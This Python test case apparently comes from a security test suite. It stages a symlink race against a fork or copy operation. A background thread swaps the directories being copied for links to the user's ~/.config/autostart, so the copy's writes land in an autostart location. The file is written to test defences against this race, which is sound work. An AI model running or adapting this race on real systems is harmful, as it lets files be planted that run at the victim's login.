# name: have a fork write into a hidden directory: the copy's directories become links while it is made
# line: 66
# finding: 1
# play: fork
# forks: 4
# runs: in the worker
import os

from attack import STAGE, in_background, planted, refused

FILES = 600
HIDDEN = f"{STAGE['home']}/.config/autostart"


def rooms():
    """The places in which a fork may be made: each fork since the first has moved on by one."""
    room = STAGE["family"]
    for _ in range(6):
        yield room
        room += "/o"


def plant():
    for directory in ("a", "b", "c"):
        os.makedirs(directory, exist_ok=True)
        for number in range(FILES):
            with open(f"{directory}/f{number}", "w", encoding="utf-8") as file:
                file.write("x")
    away = iter(range(1000000))

    def swap():
        for room in rooms():
            for directory in ("a", "b", "c"):
                copy = f"{room}/t/w/{directory}"
                if os.path.isdir(copy) and not os.path.islink(copy):
                    os.rename(copy, f"{STAGE['family']}/away-{next(away)}")
                    os.symlink(HIDDEN, copy)

    in_background(swap)
    planted("whoever copies into a directory finds a link there")


plant() if STAGE["part"] == "plant" else refused("it looks at nothing itself")
